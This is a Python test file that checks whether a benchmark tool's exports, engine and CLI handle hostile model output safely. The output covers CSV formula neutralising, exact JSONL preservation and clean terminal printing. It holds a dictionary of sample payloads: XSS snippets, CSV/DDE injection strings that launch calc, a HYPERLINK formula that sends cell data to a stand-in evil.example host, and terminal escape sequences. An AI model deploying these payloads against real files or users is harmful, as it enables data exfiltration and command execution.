"""Issue #6, hostile output (exports, CLI and the engine; the browser part is
the UI's test): model answers full of markup, script, formulas, control
characters, right-to-left overrides, huge single lines and 1 MB bodies pass
through the engine byte for byte, are neutralised in CSV (no cell starts
with = + - @ tab or CR), kept exact in JSONL, and never reach the terminal.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sys
import time

import pytest
from fake_openai import HOSTILE_TEXT
from support import fake_models_yaml, run_cli

from orbench_play import engine
from orbench_play.cache import ResultCache
from orbench_play.export import results_to_csv, results_to_jsonl, write_results
from orbench_play.models import custom_endpoint
from orbench_play.types import CellResult, GenerationParams, Prompt, RunConfig

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = {
    "script": "<script>window.__pwned=1</script>",
    "img": '<img src=x onerror="alert(1)">',
    "iframe": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "links": '[x](javascript:alert(1)) <a href="javascript:alert(1)">y</a> <a href="data:text/html;base64,PHNjcmlwdD4=">z</a>',
    "formula_eq": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula_plus": "+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_cr": "\r=1+1",
    "control": "bell\x07 backspace\x08 esc\x1b[31mred\x1b[0m nul-free \x1b]0;title\x07 del\x7f",
    "rtl": "invoice\u202etxt.exe\u202c and \u2066isolate\u2069 \u200bzero-width",
    "fake_html": HOSTILE_TEXT,
    "long_line": "A" * 200_000,
}


def _result(response: str, **overrides) -> CellResult:
    fields = {
        "split": "hard-1k",
        "row_id": "hard-1k:1",
        "category": "privacy",
        "prompt": "p",
        "model": "m",
        "response": response,
        "verdict": "direct_answer",
        "verdict_source": "phrases",
    }
    fields.update(overrides)
    return CellResult(**fields)


def _read_csv(text: str) -> list[dict[str, str]]:
    csv.field_size_limit(sys.maxsize)
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("name", list(HOSTILE))
def test_csv_cells_never_start_a_formula(name):
    text = HOSTILE[name]
    result = _result(text, prompt=text, model=text[:40] or "m", error=text[:50], category=text[:10])
    (row,) = _read_csv(results_to_csv([result]))
    for column, value in row.items():
        assert not value.startswith(FORMULA_START), (column, value[:40])
    # Neutralising is a prefix, nothing else changes.
    expected = "'" + text if text.startswith(FORMULA_START) else text
    assert row["response"] == expected


def test_numbers_stay_numbers_in_csv():
    (row,) = _read_csv(results_to_csv([_result("ok", latency_s=-0.5, cost_usd=0.0012, completion_tokens=7)]))
    assert row["latency_s"] == "-0.5" and row["completion_tokens"] == "7"


@pytest.mark.parametrize("name", list(HOSTILE))
def test_jsonl_keeps_the_text_exact(name):
    text = HOSTILE[name]
    (line,) = results_to_jsonl([_result(text)]).splitlines()
    assert json.loads(line)["response"] == text


def test_files_round_trip(tmp_path):
    results = [_result(t, row_id=f"hard-1k:{i}") for i, t in enumerate(HOSTILE.values())]
    csv_path = write_results(results, tmp_path / "r.csv")
    jsonl_path = write_results(results, tmp_path / "r.jsonl")
    rows = _read_csv(csv_path.read_text(encoding="utf-8"))
    assert len(rows) == len(results)  # embedded CR/LF/quotes did not break rows
    back = [json.loads(line) for line in jsonl_path.read_text(encoding="utf-8").splitlines()]
    assert [b["response"] for b in back] == list(HOSTILE.values())


# -- through the engine ---------------------------------------------------------------

ONE_MB = ("Lorem ipsum <b>dolor</b> sit amet, <script>x()</script> " * 20_000)[: 1024 * 1024]


async def test_hostile_and_huge_answers_pass_through_the_engine_exactly(fake, tmp_path, no_egress):
    texts = {
        "mega": ONE_MB,
        "line": "B" * (1024 * 1024),  # one huge single line
        "ctrl": HOSTILE["control"] + HOSTILE["rtl"],
        "markup": HOSTILE_TEXT + HOSTILE["links"] + HOSTILE["iframe"],
        "formula": HOSTILE["formula_eq"],
    }
    for name, text in texts.items():
        fake.set_text(f"answer:{name}", text)
    models = tuple(custom_endpoint(fake.base_url, f"answer:{n}", "sk") for n in texts)
    prompt = Prompt("hard-1k:31", "hard-1k", "privacy", "Tell me something.")
    cache = ResultCache(tmp_path / "cache")
    config = RunConfig(models=models, prompts=(prompt,), timeout_s=30, params=GenerationParams(max_tokens=1_000_000))
    start = time.perf_counter()
    results = await engine.collect(config, cache=cache)
    took = time.perf_counter() - start
    assert took < 20, took
    by_model = {r.model: r for r in results}
    for name, text in texts.items():
        result = by_model[models[list(texts).index(name)].name]
        assert result.ok, (name, result.error)
        assert result.response == text, name  # byte for byte, nothing stripped or escaped here
    # Replayed from the cache exactly, too.
    again = await engine.collect(config, cache=cache)
    assert all(r.cached for r in again)
    assert [r.response for r in again] == [r.response for r in results]
    # A 1 MB answer exports in both formats.
    write_results(results, tmp_path / "big.csv")
    write_results(results, tmp_path / "big.jsonl")
    rows = _read_csv((tmp_path / "big.csv").read_text(encoding="utf-8"))
    assert {len(r["response"]) for r in rows} >= {1024 * 1024}
    assert not any(r["response"].startswith(FORMULA_START) for r in rows)


def test_hostile_fake_model_through_the_cli(fake, tmp_path):
    """The CLI prints only counts and names; model output goes to files, defused."""
    fake.set_text("answer:esc", "\x1b]0;pwned\x07\x1b[2J" + HOSTILE["formula_eq"])
    fake.set_text("answer:formula", HOSTILE["formula_eq"])
    models = {"hostile": "hostile", "esc": "answer:esc", "formula": "answer:formula", "[bold red]markup[/]": "answer"}
    config = fake_models_yaml(tmp_path / "models.yaml", fake.base_url, models, api_key="sk-x")
    out_csv, out_jsonl = tmp_path / "r.csv", tmp_path / "r.jsonl"
    env = dict(os.environ, ORBENCH_CACHE_DIR=str(tmp_path / "cache"), COLUMNS="200")
    for out in (out_csv, out_jsonl):
        args = ["run", "--config", str(config), "--split", "hard-1k", "--n", "2", "--out", str(out), "--retries", "0"]
        for name in ("hostile", "esc", "formula", "[bold red]markup[/]"):
            args += ["--model", name]
        proc = run_cli(args, env=env, cwd=tmp_path)
        assert proc.returncode == 0, proc.stderr[-2000:]
        printed = proc.stdout + proc.stderr
        for bad in ("\x1b", "\x07", "<script>", "HYPERLINK", "\u202e"):
            assert bad not in printed, repr(bad)
        assert "[bold red]markup[/]" in proc.stdout  # shown literally, not as styling
    rows = _read_csv(out_csv.read_text(encoding="utf-8"))
    assert rows and not any(v.startswith(FORMULA_START) for r in rows for v in r.values())
    assert any(r["response"].startswith("'=HYPERLINK") for r in rows)
    back = [json.loads(line) for line in out_jsonl.read_text(encoding="utf-8").splitlines()]
    assert any(b["response"] == HOSTILE_TEXT for b in back)
